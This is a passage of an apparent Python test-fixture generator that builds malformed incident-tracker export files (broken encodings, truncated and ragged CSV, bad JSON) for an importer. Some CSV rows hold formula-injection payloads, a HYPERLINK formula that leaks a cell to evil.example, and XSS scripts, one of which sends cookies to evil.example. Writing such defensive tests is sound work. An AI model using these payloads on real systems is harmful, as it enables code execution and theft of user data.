        U8("Resumen,Clave de incidencia,ID de la incidencia,Tipo de Incidencia,Estado,Prioridad,Creada,Resuelta\n"
           "Pago caído – checkout,INC-901,10901,Incidente,Resuelta,Alta,23/sep/26 10:12 am,23/sep/26 11:00 am\n"
           "Búsqueda lenta,INC-902,10902,Incidente,En curso,Media,02/dic/26 09:00 pm,\n"),
        "control: Spanish-localised Jira export with Spanish month abbreviations", rows=2)


# ====================================================================================================================
# encoding/

def utf16(text, be=False, bom=True):
    body = text.encode("utf-16-be" if be else "utf-16-le")
    if bom:
        body = (b"\xfe\xff" if be else b"\xff\xfe") + body
    return body


def build_encoding():
    for n in ALL:
        t = text_of(n)
        o = opts(n)
        add(path_of("encoding", n, "utf8-bom"), BOM + U8(t), "UTF-8 with a byte-order mark", rows=3, **o)
        add(path_of("encoding", n, "utf8-bom-crlf"), BOM + U8(t.replace("\n", "\r\n")),
            "UTF-8 BOM and CRLF line ends (Excel 'CSV UTF-8' / Windows editor)", rows=3, **o)
        add(path_of("encoding", n, "utf16le-bom"), utf16(t.replace("\n", "\r\n")),
            "UTF-16 LE with BOM and CRLF (Excel 'Unicode text' / PowerShell Out-File)", rows=3, **o)
    for n in list(CSV_FMTS) + ["pd-json", "sn-json"]:
        t = text_of(n)
        o = opts(n)
        add(path_of("encoding", n, "utf16be-bom"), utf16(t, be=True), "UTF-16 BE with BOM", rows=3, **o)
    for n in list(CSV_FMTS) + ["ogalert-json"]:
        t = text_of(n)
        o = opts(n)
        add(path_of("encoding", n, "utf16le-nobom"), utf16(t, bom=False), "UTF-16 LE without a BOM", rows=3, **o)
        add(path_of("encoding", n, "utf16be-nobom"), utf16(t, be=True, bom=False), "UTF-16 BE without a BOM", rows=3,
            **o)
        add(path_of("encoding", n, "crcrlf"), U8(t.replace("\n", "\r\r\n")),
            "\\r\\r\\n line ends (ServiceNow Table API CSV / a CRLF file passed through a text-mode copy)", rows=3, **o)
        add(path_of("encoding", n, "lone-cr"), U8(t.replace("\n", "\r")), "lone \\r line ends (classic Mac OS)", rows=3,
            **o)
    for n in list(CSV_FMTS) + ["pd-json", "iio-json"]:
        t = text_of(n)
        add(path_of("encoding", n, "cp1252"), t.replace("\n", "\r\n").encode("cp1252"),
            "Windows-1252 (ü = 0xFC, en dash = 0x96), CRLF: Excel 'CSV (Comma delimited)' on a Western-European PC",
            rows=3, **opts(n))
    # mostly UTF-8 with one cp1252 byte
    for n in ["pagerduty", "servicenow", "generic", "sn-json"]:
        t = U8(text_of(n))
        i = t.rfind(b"\n", 0, len(t) - 1)  # start of the last line
        j = t.index(b"Queue" if b"Queue" in t else (b"Printer" if b"Printer" in t else b"Invoice"), i if n != "sn-json" else 0)
        bad = t[:j] + b"Caf\xe9 " + t[j:]
        add(path_of("encoding", n, "mixed-utf8-cp1252"), bad,
            "mostly UTF-8 (ü, en dash) with one Windows-1252 byte (0xE9 'é') in the last record: mixed encodings",
            rows=3, **opts(n))
    # invalid UTF-8 with no well-formed multibyte sequence elsewhere: cp1252 reading
    base = csv_text(PD_HDR, [pd_row(1), pd_row(2, description="Caf\udce9 down")], )
    add("encoding/pagerduty-lone-latin1-byte.csv", base.encode("utf-8", "surrogateescape"),
        "ASCII file with a single 0xE9 byte (é in Latin-1) and no UTF-8: read as Windows-1252", rows=2)
    for tag, seq, why in [("overlong", b"\xc0\xaf", "an overlong UTF-8 encoding of '/' (C0 AF)"),
                          ("surrogate", b"\xed\xa0\x80", "a UTF-8-encoded UTF-16 surrogate (ED A0 80)"),
                          ("truncated-seq", b"\xe2\x80", "a 3-byte UTF-8 sequence cut after 2 bytes (E2 80)"),
                          ("ff-byte", b"\xff\xfe\xff", "bytes FF FE FF in the middle of a title (never valid UTF-8)")]:
        t = U8(csv_fmt_text("opsgenie"))
        k = t.index(b"Queue backlog")
        add(f"encoding/opsgenie-invalid-utf8-{tag}.csv", t[:k] + seq + t[k:],
            f"UTF-8 file (with ü, en dash) holding {why}", rows=3)
    t = U8(json_text("iio-json"))
    k = t.index(b"Error rate")
    add("encoding/incidentio-incidents-invalid-utf8.json", t[:k] + b"\xc3\x28" + t[k:],
        "incident.io JSON, UTF-8 with an invalid 2-byte sequence (C3 28) inside a name", rows=3)
    t = U8(csv_fmt_text("incidentio"))
    add("encoding/incidentio-truncated-utf8-at-eof.csv", t.rstrip(b"\n") + b" \xe2\x80",
        "UTF-8 export cut in the middle of a multibyte character at the very end (no final newline)", rows=3)
    # NUL bytes
    t = U8(csv_fmt_text("pagerduty"))
    k = t.index(b"Queue backlog")
    add("encoding/pagerduty-nul-in-title.csv", t[:k] + b"Queue\x00" + t[k + 5:],
        "a NUL byte inside a title on line 4 (not UTF-16)", rows=3)
    add("encoding/servicenow-nul-padding-at-end.csv", U8(csv_fmt_text("servicenow")) + b"\x00" * 512,
        "a complete export followed by 512 NUL bytes (a pre-allocated file, a crashed copy)", rows=3)
    t = U8(csv_fmt_text("opsgenie"))
    add("encoding/opsgenie-nul-in-header.csv", t[:3] + b"\x00" + t[3:],
        "a NUL byte inside the header row", rows=3)
    add("encoding/jira-nul-every-other-byte-odd.csv", utf16(csv_fmt_text("jira"), bom=False)[1:],
        "UTF-16 LE without a BOM that lost its first byte (odd length, misaligned)", rows=3)
    add("encoding/all-nul-1k.csv", b"\x00" * 1024, "1 KB of NUL bytes (a zero-filled file)")
    t = csv_fmt_text("pagerduty").replace("Queue backlog", "Queue\x00backlog")
    add("encoding/pagerduty-utf16le-bom-embedded-nul-char.csv", utf16(t),
        "UTF-16 LE with BOM holding a U+0000 character inside a title (line 4)", rows=3)
    add("encoding/pagerduty-utf16le-bom-odd-length.csv", utf16(csv_fmt_text("pagerduty"))[:-1],
        "UTF-16 LE with BOM whose last byte is missing (odd length: a cut-off download)", rows=3)
    t = utf16(csv_fmt_text("opsgenie"))
    k = t.index("Queue".encode("utf-16-le"))
    add("encoding/opsgenie-utf16le-lone-surrogate.csv", t[:k] + b"\x00\xd8" + t[k:],
        "UTF-16 LE with BOM holding an unpaired high surrogate (D800) before a title on line 4", rows=3)
    add("encoding/pagerduty-utf32le-bom.csv", b"\xff\xfe\x00\x00" + csv_fmt_text("pagerduty").encode("utf-32-le"),
        "UTF-32 LE with BOM (FF FE 00 00): must not be taken for UTF-16 LE", rows=3)
    add("encoding/pagerduty-json-utf8-bom-crlf-escaped.json",
        BOM + json.dumps(wrap("pd-json", pd_incs()), ensure_ascii=True, indent=2).replace("\n", "\r\n").encode(),
        "PagerDuty JSON with a BOM, CRLF and every non-ASCII character \\u-escaped", rows=3)


# ====================================================================================================================
# csv/: shape of CSV files

def build_csv():
    add("csv/empty.csv", b"", "a zero-byte .csv")
    add("csv/whitespace-only.csv", b"  \r\n\r\n\t\n", "only blanks and line ends")
    add("csv/bom-only.csv", BOM, "only a UTF-8 BOM")
    add("csv/bom-crlf-only.csv", BOM + b"\r\n", "a BOM and one empty line")
    for n in CSV_FMTS:
        t = csv_fmt_text(n)
        hdr = t.split("\n")[0]
        add(f"csv/{n}-header-only.csv", U8(hdr + "\n"), "the header row and no data rows", rows=0, **opts(n))
    add("csv/pagerduty-header-only-no-newline.csv", U8(",".join(PD_HDR)),
        "header row without a final newline, no data", rows=0)
    add("csv/servicenow-header-only-crlf-bom.csv", BOM + U8(",".join(SN_HDR) + "\r\n"),
        "header only, BOM + CRLF (an empty Excel export)", rows=0)
    # truncated: unterminated quote at the end
    for n in CSV_FMTS:
        t = csv_fmt_text(n)
        word = {"pagerduty": "Queue backlog", "opsgenie": "Queue backlog", "jira": "Queue backlog",
                "servicenow": "Printer queue", "incidentio": "Queue backlog", "generic": "Invoice PDF"}[n]
        k = t.index(word)
        add(f"csv/{n}-truncated-open-quote.csv", U8(t[:k] + '"' + t[k:k + 9]),
            "download cut off inside a quoted field of the last row (unterminated quote at end of file)",
            rows=3, **opts(n))
    add("csv/pagerduty-truncated-mid-row.csv", U8(csv_fmt_text("pagerduty")[:-40]),
        "download cut off in the middle of the last row (no quote open): last row has too few columns", rows=3)
    add("csv/opsgenie-quote-in-unquoted-field.csv",
        U8(csv_text(OG_HDR, og_rows()).replace("Queue backlog growing", 'Queue "backlog" growing')),
        "a bare double quote inside an unquoted field (RFC 4180 violation, common from hand-made exports)", rows=3)
    add("csv/servicenow-stray-quote-mid-file.csv",
        U8(csv_text(SN_HDR, sn_rows() + [sn_row(4)]).replace("VPN down for remote staff #1", '"VPN down" for remote #1')),
        "a field starting with a quote that closes early (\"VPN down\" for remote): malformed quoting on line 2",
        rows=4)
    # ragged rows
    t = csv_text(PD_HDR, pd_rows()).split("\n")
    t[2] = t[2] + ",extra1,extra2"
    add("csv/pagerduty-ragged-too-many.csv", U8("\n".join(t)), "line 3 has two more columns than the header", rows=3)
    t = csv_text(PD_HDR, pd_rows()).split("\n")
    t[2] = ",".join(t[2].split(",")[:10])
    add("csv/pagerduty-ragged-too-few.csv", U8("\n".join(t)), "line 3 has 10 of 22 columns (created_at missing)",
        rows=3)
    t = csv_text(OG_HDR, og_rows()).split("\n")
    t[1] = t[1] + ",,,"
    t[3] = ",".join(t[3].split(",")[:5])
    add("csv/opsgenie-ragged-both.csv", U8("\n".join(t)),
        "line 2 has trailing empty extra columns, line 4 is short (5 columns)", rows=3)
    t = csv_text(SN_HDR, sn_rows()).split("\n")
    t[3] = t[3] + ",x"
    add("csv/servicenow-ragged-too-many.csv", U8("\n".join(t)), "line 4 has one extra column", rows=3)
    t = csv_text(IIO_HDR, iio_rows()).split("\n")
    t[2] = ",".join(t[2].split(",")[:3])
    add("csv/incidentio-ragged-too-few.csv", U8("\n".join(t)), "line 3 has only 3 columns", rows=3)
    add("csv/jira-ragged-trailing-commas.csv",
        U8("\n".join(l + ",,,," if i else l for i, l in enumerate(csv_text(JIRA_HDR, jira_rows()).split("\n")) if l) + "\n"),
        "every data row has four trailing empty cells beyond the header", rows=3)
    # duplicate header names
    hdr = PD_HDR + ["created_at"]
    rows = [dict(r) for r in pd_rows()]
    add("csv/pagerduty-duplicate-header-created_at.csv",
        U8(",".join(hdr) + "\n" + "\n".join(",".join(cell(r[h]) for h in PD_HDR) + ",1999-01-01T00:00:00Z"
                                            for r in rows) + "\n"),
        "created_at appears twice; the second holds a different (pre-1990) value: the first must be read", rows=3)
    hdr = ["number"] + SN_HDR
    add("csv/servicenow-duplicate-header-number.csv",
        U8(",".join(hdr) + "\n" + "\n".join("X" + str(k) + "," + ",".join(cell(r[h]) for h in SN_HDR)
                                            for k, r in enumerate(sn_rows())) + "\n"),
        "number appears twice (first column is a different id): the first is read", rows=3)
    add("csv/incidentio-duplicate-header-id-case.csv",
        U8(csv_text(IIO_HDR + ["id"], [dict(r, id="x") for r in iio_rows()]).replace(",id\n", ",id\n", 1)),
        "'ID' and 'id' fold to the same name; second column holds 'x' in every row", rows=3)
    add("csv/opsgenie-duplicate-header-all-blank.csv",
        U8(csv_text(OG_HDR + ["", ""], [list(r.values()) + ["a", "b"] for r in og_rows()])),
        "two extra columns with empty header names", rows=3)
    # quoted newlines
    rows = pd_rows()
    rows[0]["description"] = "Multi-line\nsummary of a disk alert\n\nwith a blank line"
    rows[1]["description"] = "CRLF inside\r\nthe quotes"
    add("csv/pagerduty-quoted-newlines.csv", U8(csv_text(PD_HDR, rows)),
        "quoted fields spanning lines (\\n, blank line, and a \\r\\n inside a \\n file)", rows=3)
    rows = sn_rows()
    rows[0]["short_description"] = "VPN down\r\nfor \"remote\" staff"
    rows[2]["short_description"] = "\r\n"
    add("csv/servicenow-quoted-newlines-crlf.csv", U8(csv_text(SN_HDR, rows, eol="\r\n")),
        "CRLF file with quoted CRLFs inside fields, one field that is only a line break", rows=3)
    rows = jira_rows()
    rows[0][JIRA_HDR.index("Description")] = "Line 1\nLine 2\nIssue id,Created\n10999,01/Mar/26 1:00 AM"
    add("csv/jira-quoted-newline-looks-like-header.csv", U8(csv_text(JIRA_HDR, rows)),
        "a quoted description whose lines look like a header and a row", rows=3)
    # very long field
    rows = pd_rows()
    rows[0]["description"] = "Stack trace: " + ("at Acme.Checkout.Handler.Process(Request r) in Handler.cs:line 42 | " * 2200)
    add("csv/pagerduty-long-field-150k.csv", U8(csv_text(PD_HDR, rows)),
        "a ~150 KB description (a pasted stack trace) in one unquoted cell", rows=3)
    rows = og_rows()
    rows[1]["Message"] = "Log excerpt,\n" + ("\"ERROR\" 2026-03-03T08:00:00Z worker-3 timeout, retrying\n" * 2500)
    add("csv/opsgenie-long-quoted-multiline-field.csv", U8(csv_text(OG_HDR, rows)),
        "a ~150 KB quoted cell spanning 2,500 lines with escaped quotes", rows=3)
    # formulas
    rows = pd_rows()
    rows[0]["description"] = "=cmd|' /C calc'!A0"
    rows[1]["description"] = "+1"
    rows[2]["description"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    rows[2]["service_name"] = "-2+3"
    add("csv/pagerduty-formula-cells.csv", U8(csv_text(PD_HDR, rows)),
        "cells that spreadsheets run as formulas (=, +, @, -): stored as text", rows=3)
    rows = sn_rows()
    rows[0]["short_description"] = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    rows[1]["assigned_to"] = "\t=1+1"
    rows[2]["short_description"] = "=1+1"
    add("csv/servicenow-formula-cells.csv", U8(csv_text(SN_HDR, rows)),
        "HYPERLINK formula, tab-prefixed formula, plain =1+1", rows=3)
    rows = og_rows()
    rows[0]["Message"] = "<script>alert(document.cookie)</script>"
    rows[1]["Message"] = "<img src=x onerror=alert(1)> Kühlung"
    rows[2]["Tags"] = "service:<b>ledger</b>"
    add("csv/opsgenie-html-script.csv", U8(csv_text(OG_HDR, rows)), "HTML and script in titles and tags", rows=3)
    rows = iio_rows()
    rows[0]["Name"] = "</td><script>fetch('//evil.example/'+document.cookie)</script>"
    rows[1]["Affected Services"] = "<iframe src=javascript:alert(1)>"
    add("csv/incidentio-html-script.csv", U8(csv_text(IIO_HDR, rows)), "HTML/script in a name and a service", rows=3)
    # delimiters and blank lines
    add("csv/pagerduty-semicolon.csv", U8(csv_text(PD_HDR, pd_rows(), sep=";")),
        "semicolon-delimited (Excel with a European list separator)", rows=3)
    add("csv/servicenow-tab-separated.csv", U8(csv_text(SN_HDR, sn_rows(), sep="\t")), "tab-separated", rows=3)
    t = csv_text(OG_HDR, og_rows()).split("\n")
    add("csv/opsgenie-blank-lines.csv", U8("\n".join([t[0], "", t[1], "", "", t[2], t[3], "", "", ""])),
        "blank lines between rows and at the end", rows=3)
    add("csv/pagerduty-blank-line-before-header.csv", U8("\n\n" + csv_fmt_text("pagerduty")),
        "two blank lines before the header", rows=3)
    add("csv/pagerduty-title-line-before-header.csv",
        U8("PagerDuty incidents export 2026-03-01..2026-03-31\n" + csv_fmt_text("pagerduty")),
        "a title line above the header (report-style export)", rows=3)
    add("csv/jira-only-commas-rows.csv",
        U8(csv_text(JIRA_HDR, jira_rows()) + ",".join([""] * len(JIRA_HDR)) + "\n" + ",".join([""] * len(JIRA_HDR)) + "\n"),
        "two rows of nothing but commas at the end (Excel's empty used range)", rows=3)
    add("csv/pagerduty-two-exports-concatenated.csv",
        BOM + U8(csv_text(PD_HDR, pd_rows()[:2])) + BOM + U8(csv_text(PD_HDR, pd_rows()[2:])),
        "two BOM-prefixed exports joined with cat: a BOM and a second header on line 4", rows=3)
    add("csv/opsgenie-excel-sep-line.csv", U8("sep=,\n" + csv_fmt_text("opsgenie")),
        "Excel's 'sep=,' hint as the first line", rows=3)
    add("csv/pagerduty-5000-columns.csv",
        U8(csv_text(PD_HDR + [f"custom_{i}" for i in range(5000)],
                    [list(r.values()) + [str(i)] * 5000 for i, r in enumerate(pd_rows())])),
        "the PagerDuty columns followed by 5,000 extra custom columns", rows=3)
    add("csv/one-line-150k-no-newline.csv", b"incident" * 19000,
        "one 152 KB line with no delimiter and no newline (a header no format knows)")
    add("csv/servicenow-whitespace-padded.csv",
        U8(csv_text([" number ", " opened_at ", " short_description "],
                    [[" INC0032001 ", " 2026-03-02 09:00:00 ", " padded "], ["INC0032002\t", "2026-03-02 10:00:00\t", "tab"]])),
        "header and values padded with spaces / tabs", rows=2)


# ====================================================================================================================
# structure/: ids, required columns, unknown headers (CSV and JSON)

def build_structure():
    add("structure/pagerduty-duplicate-ids.csv", U8(csv_text(PD_HDR, pd_rows() + [pd_row(1, description="Second copy")])),
        "the same id twice in one file, different titles", rows=4)
    add("structure/opsgenie-duplicate-ids.csv",
        U8(csv_text(OG_HDR, og_rows() + [og_row(2), og_row(2)])), "id 2 three times (identical repeats)", rows=5)
    add("structure/jira-duplicate-ids-different-updated.csv",
        U8(csv_text(JIRA_HDR, jira_rows() + [jira_row(1, Summary="Newer copy", Updated="20/Mar/26 11:10 AM")])),
        "the same Issue id twice; the later row has a newer Updated", rows=4)
    add("structure/incidentio-duplicate-ids.csv", U8(csv_text(IIO_HDR, iio_rows() + [iio_row(3)])),
        "the same ID twice", rows=4)
    add("structure/generic-duplicate-ids.csv",
        U8(gen_text(gen_rows() + [dict(gen_rows()[0], Subject="dup")])), "the same Ticket twice", rows=4,
        mapping="generic/helpdesk.yaml")
    add("structure/servicenow-duplicate-same-version.csv",
        U8(csv_text(SN_HDR, sn_rows() + [sn_row(1, short_description="Same version, other text")])),
        "the same number at the same sys_mod_count twice", rows=4)
    for n in ["pd-json", "ogalert-json", "jira-json", "grafana-json", "iio-json", "pdlog-json"]:
        recs = JSON_FMTS[n][0]()
        add(path_of("structure", n, "duplicate-ids"), U8(json_text(n, recs + [recs[0]])),
            "the first record repeated at the end of the page", rows=4)
    # missing required columns
    for n, drop in [("pagerduty", "id"), ("opsgenie", "CreatedAt"), ("jira", "Created"), ("servicenow", "number"),
                    ("incidentio", "Created At")]:
        hdr, mk, _, _ = CSV_FMTS[n]
        rows = mk()
        if n == "jira":
            idx = [i for i, h in enumerate(hdr) if h != drop]
            nh = [hdr[i] for i in idx]
            rows = [[r[i] for i in idx] for r in rows]
        else:
            nh = [h for h in hdr if h != drop]
            rows = [{h: r[h] for h in nh} for r in rows]
        if n == "pagerduty":
            nh = [h for h in nh if h != "incident_number"]
            rows = [{h: r[h] for h in nh} for r in rows]
        add(f"structure/{n}-missing-{drop.lower().replace(' ', '-')}.csv", U8(csv_text(nh, rows)),
            f"the required column '{drop}' is absent", rows=3)
    add("structure/generic-mapping-column-missing.csv",
        U8(csv_text([h for h in GEN_HDR if h != "Opened"], [{h: r[h] for h in GEN_HDR if h != "Opened"} for r in gen_rows()],
                    sep=";")),
        "the mapping's created_at column (Opened/Created) is absent", rows=3, mapping="generic/helpdesk.yaml")
    add("structure/pagerduty-empty-required-values.csv",
        U8(csv_text(PD_HDR, [pd_row(1, id=""), pd_row(2, created_at=""), pd_row(3, id="NULL"), pd_row(4)])),
        "required columns present but empty / 'NULL' in 3 of 4 rows", rows=4)
    for n, (drop, path) in {"pd-json": ("id", "id"), "ogalert-json": ("createdAt", "createdAt"),
                            "sn-json": ("number", "number"), "grafana-json": ("created_at", "created_at")}.items():
        recs = JSON_FMTS[n][0]()
        for r in recs[1:]:
            r.pop(drop)
        add(path_of("structure", n, f"missing-{drop.lower()}"), U8(json_text(n, recs)),
            f"records 2 and 3 lack the required key '{drop}'; only the first has it", rows=3)
    recs = pd_logs()
    recs[1].pop("incident")
    add("structure/pagerduty-log-entries-missing-incident.json", U8(json_text("pdlog-json", recs)),
        "one log entry without its incident reference", rows=3)
    # unknown headers
    add("structure/minimal-id-created-ambiguous.csv",
        U8("id,created_at\nPMIN1,2026-03-02T10:00:00Z\nPMIN2,2026-03-02T11:00:00Z\n"),
        "only id,created_at: required columns of PagerDuty, Opsgenie and incident.io CSV alike; no --source")
    add("csv/generic-unquoted-delimiter-in-field.csv",
        U8("Ticket;Subject;Opened;Closed;Prio;Component;Team;Reported by;State\n"
           "HD-201;Checkout down; customers see 502;02/03/2026 09:15;02/03/2026 10:45;Urgent;checkout-api;checkout;"
           "ana@acme.example;Done\n"
           "HD-202;Invoice PDF blank;05/03/2026 12:00;;Low;;billing;;In progress\n"),
        "mapping CSV whose line 2 has an unquoted ';' inside the subject (10 cells for 9 columns)", rows=2,
        mapping="generic/helpdesk.yaml")
    add("structure/servicenow-required-columns-only.csv",
        U8("number,opened_at\nINC0034001,2026-03-02 09:00:00\nINC0034002,2026-03-03 09:00:00\n"),
        "only the two columns 'insight formats' lists as required for ServiceNow (unambiguous: no other format "
        "uses number/opened_at)", rows=2)
    add("structure/unknown-header-csv.csv",
        U8("ticket_ref,opened,summary,owner\nT-1,2026-03-02,Thing broke,ana\nT-2,2026-03-03,Other thing,ben\n"),
        "a CSV from a tool no format knows, no mapping given")
    add("structure/unknown-header-near-pagerduty.csv",
        U8("incident id,created,description\nP1,2026-03-02T10:00:00Z,x\n"),
        "close to PagerDuty but misses the required names")
    add("structure/unknown-json-wrapper.json", U8(jtext({"tickets": [{"id": "T-1", "created": "2026-03-02T10:00:00Z"}]})),
        "a JSON wrapper key no format uses")
    add("structure/unknown-json-records.json",
        U8(jtext({"incidents": [{"uuid": "x", "opened": "2026-03-02T10:00:00Z", "headline": "y"}]})),
        "a known wrapper key (incidents) whose records match neither PagerDuty nor incident.io")
    add("structure/ambiguous-incidents-wrapper.json",
        U8(jtext({"incidents": [{"id": "A1", "created_at": "2026-03-02T10:00:00Z"}]})),
        "a record with only id + created_at under 'incidents': PagerDuty and incident.io tie", rows=1)
    add("structure/pagerduty-source-forced-on-opsgenie.csv", U8(csv_fmt_text("opsgenie")),
        "an Opsgenie CSV imported with --source pagerduty-incidents-csv", rows=3, source="pagerduty-incidents-csv")
    add("structure/servicenow-json-source-forced-on-grafana.json", U8(json_text("grafana-json")),
        "a Grafana OnCall dump imported with --source servicenow-table-json", rows=3, source="servicenow-table-json")
    add("structure/pagerduty-csv-with-json-extension.json", U8(csv_fmt_text("pagerduty")),
        "a PagerDuty CSV saved with a .json name", rows=3)
    add("structure/pagerduty-json-with-csv-extension.csv", U8(json_text("pd-json")),
        "a PagerDuty JSON dump saved with a .csv name", rows=3)


# ====================================================================================================================
# json/

def build_json():
    for name, body in [("scalar-number", "42"), ("scalar-string", '"text"'), ("scalar-null", "null"),
                       ("scalar-true", "true")]:
        add(f"json/{name}.json", U8(body + "\n"), f"a JSON document that is only the scalar {body}")
    add("json/empty.json", b"", "a zero-byte .json")
    add("json/empty-object.json", b"{}\n", "the empty object {}")
    add("json/empty-array.json", b"[]\n", "the empty array []")
    add("json/whitespace-only.json", b" \n\t\r\n", "only whitespace")
    for n in JSON_FMTS:
        add(path_of("json", n, "bare-array"), U8(jtext(JSON_FMTS[n][0]())),
            "a top-level array of records (no wrapper object)", rows=3)
    for key in ["incidents", "data", "issues", "result", "results", "log_entries"]:
        add(f"json/wrapper-{key.replace('_', '-')}-null.json", U8(jtext({key: None})), f'{{"{key}": null}}')
    for n in JSON_FMTS:
        add(path_of("json", n, "empty-page"), U8(json_text(n, [])),
            "a real empty page: the format's wrapper with an empty record array", rows=0)
    add("json/pagerduty-incidents-leading-blank-lines.json", U8("\n\n  " + json_text("pd-json")),
        "two blank lines and spaces before the opening brace", rows=3)
    recs = og_alerts()
    recs[0] = {"id": recs[0]["id"], "createdAt": recs[0]["createdAt"], "message": "sparse first alert"}
    add("json/opsgenie-alerts-sparse-first-record.json", U8(json_text("ogalert-json", recs)),
        "the first alert carries only id, createdAt and message; the others are complete", rows=3)
    t = json_text("pd-json", [pd_inc(1), pd_inc(2)])
    t = t.replace('"id": "Q0CRP000000001"', '"id": 9007199254740993', 1).replace('"id": "Q0CRP000000002"',
                                                                                 '"id": 9007199254740992', 1)
    add("json/pagerduty-incidents-big-integer-ids.json", U8(t),
        "numeric ids 2^53+1 and 2^53 that are equal as doubles: must stay two incidents", rows=2)
    add("json/pagerduty-incidents-lone-low-surrogate-id.json",
        U8(json_text("pd-json").replace('"id": "Q0CRP000000002"', '"id": "Q0CRP\\udc00000002"', 1)),
        "an escaped lone low surrogate \\udc00 inside an id", rows=3)
    add("json/wrapper-records-are-strings.json", U8(jtext({"incidents": ["Q0CRP1", "Q0CRP2"]})),
        "the records are strings, not objects")
    add("json/pagerduty-incidents-null-record.json", U8(json_text("pd-json", [pd_inc(1), None, pd_inc(3)])),
        "a null in the middle of the records", rows=3)
    add("json/wrapper-is-object.json", U8(jtext({"incidents": pd_inc(1)})),
        '"incidents" holds one object instead of an array', rows=1)
    # truncated JSON
    for n in JSON_FMTS:
        t = json_text(n)
        add(path_of("json", n, "truncated"), U8(t[:int(len(t) * 0.7)]),
            "download cut off at 70 % (inside the third record)", rows=3)
    t = json_text("sn-json")
    add("json/servicenow-table-truncated-after-first-record.json", U8(t[:t.index("},", t.index('"sys_mod_count"')) + 2]),
        "cut off right after the first record's closing brace and comma", rows=3)
    add("json/jira-search-trailing-garbage.json", U8(json_text("jira-json") + "\n<html>502 Bad Gateway</html>\n"),
        "a complete dump followed by an HTML error page (concatenated responses)", rows=3)
    add("json/pagerduty-incidents-two-pages-concatenated.json",
        U8(json_text("pd-json", pd_incs()[:2]) + json_text("pd-json", pd_incs()[2:])),
        "two page dumps appended into one file (curl >> file)", rows=3)
    add("json/opsgenie-alerts-ndjson.json", U8("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in og_alerts())),
        "JSON Lines (one alert object per line), no wrapper", rows=3)
    add("json/html-error-page.json", U8("<!DOCTYPE html>\n<html><head><title>429 Too Many Requests</title></head></html>\n"),
        "an HTML error page saved as the API response")
    add("json/api-error-object.json",
        U8(jtext({"error": {"message": "Invalid Input Provided", "code": 2001, "errors": ["Offset must be >= 0"]}})),
        "a PagerDuty API error response saved as the dump")
    # \u0000
    recs = pd_incs()
    recs[0]["id"] = "Q0CRP000000001\u0000"
    recs[1]["title"] = "Kühlung\u0000 ausgefallen"
    add("json/pagerduty-incidents-nul-escape.json", U8(json_text("pd-json", recs)),
        "\\u0000 at the end of an id (record 1) and inside a title (record 2)", rows=3)
    recs = og_alerts()
    recs[0]["id"] = "70413a06\u0000-first"
    recs[1]["id"] = "70413a06\u0000-second"
    add("json/opsgenie-alerts-nul-escape-ids.json", U8(json_text("ogalert-json", recs)),
        "two ids identical up to \\u0000 and different after it: must never merge", rows=3)
    recs = jira_issues()
    recs[2]["fields"]["summary"] = "\u0000"
    add("json/jira-search-nul-only-summary.json", U8(json_text("jira-json", recs)), "a summary that is only \\u0000",
        rows=3)
    recs = sn_recs()
    recs[1]["number"] = "INC0040002\u0000"
    add("json/servicenow-table-nul-in-number.json", U8(json_text("sn-json", recs)), "\\u0000 in the key field number",
        rows=3)
    # wrong types
    recs = pd_incs()
    recs[0]["id"] = 12345
    recs[1]["id"] = {"value": "Q0CRP2"}
    add("json/pagerduty-incidents-id-number-and-object.json", U8(json_text("pd-json", recs)),
        "id as a number (record 1) and as an object (record 2)", rows=3)
    recs = og_alerts()
    recs[0]["createdAt"] = 1772445000000
    recs[1]["createdAt"] = 1772445000
    recs[2]["createdAt"] = True
    add("json/opsgenie-alerts-createdat-number.json", U8(json_text("ogalert-json", recs)),
        "createdAt as epoch-millis number, epoch-seconds number, and a boolean", rows=3)
    recs = gr_groups()
    recs[0]["created_at"] = 1772445000.5
    recs[1]["id"] = ["I68", "X"]
    recs[2]["alerts_count"] = "twelve"
    add("json/grafana-alert-groups-wrong-types.json", U8(json_text("grafana-json", recs)),
        "created_at a float, id an array, alerts_count a string", rows=3)
    recs = iio_incs()
    recs[0]["severity"] = "Critical"
    recs[1]["incident_status"] = None
    recs[2]["custom_field_entries"] = {"Affected services": "search"}
    add("json/incidentio-incidents-wrong-shapes.json", U8(json_text("iio-json", recs)),
        "severity a string not an object, incident_status null, custom_field_entries an object", rows=3)
    recs = jira_issues()
    recs[0]["fields"] = None
    recs[1]["fields"]["created"] = {"iso": "2026-03-03T01:50:00.000+0100"}
    add("json/jira-search-fields-null-created-object.json", U8(json_text("jira-json", recs)),
        "fields null (record 1), fields.created an object (record 2)", rows=3)
    recs = sn_recs()
    recs[0]["sys_mod_count"] = 4
    recs[1]["opened_at"] = {"display_value": "", "value": ""}
    recs[2]["number"] = 40003
    add("json/servicenow-table-wrong-types.json", U8(json_text("sn-json", recs)),
        "sys_mod_count a number, opened_at an empty display/value object, number a JSON number", rows=3)
    # deep nesting
    add("json/deep-array-10000.json", b"[" * 10000 + b"]" * 10000, "10,000 nested arrays")
    add("json/deep-array-10000-unclosed.json", b"[" * 10000, "10,000 opening brackets, never closed")
    rec = pd_inc(1)
    txt = json.dumps(rec)[:-1] + ', "metadata": ' + '{"a":' * 5000 + "1" + "}" * 5000 + "}"
    add("json/pagerduty-incidents-deep-object-in-record.json", U8('{"incidents": [' + txt + "]}\n"),
        "a record holding an object nested 5,000 deep in an unread field", rows=1)
    add("json/deep-wrapper-incidents.json", U8('{"incidents": ' + "[" * 3000 + "]" * 3000 + "}\n"),
        '"incidents" holding 3,000 nested arrays')
    # duplicate keys
    t = json.dumps(pd_inc(1), ensure_ascii=False)
    t = t.replace('"id": "Q0CRP000000001"', '"id": "Q0CRP000000001", "id": "Q0CRP0000000XX"', 1)
    add("json/pagerduty-incidents-duplicate-key-id.json", U8('{"incidents": [' + t + ", " +
                                                            json.dumps(pd_inc(2), ensure_ascii=False) + "]}\n"),
        "a record with \"id\" twice (different values)", rows=2)
    add("json/duplicate-wrapper-key.json",
        U8('{"data": [' + json.dumps(og_alert(1)) + '], "data": [' + json.dumps(og_alert(2)) + "]}\n"),
        "the wrapper key \"data\" twice, one alert in each", rows=2)
    # non-standard JSON
    add("json/grafana-alert-groups-nan-literal.json",
        U8(json_text("grafana-json").replace('"alerts_count": 12', '"alerts_count": NaN', 1)),
        "a bare NaN token (Python json.dumps default) as alerts_count", rows=3)
    add("json/opsgenie-incidents-comments.json", U8("// exported 2026-03-31\n" + json_text("oginc-json")),
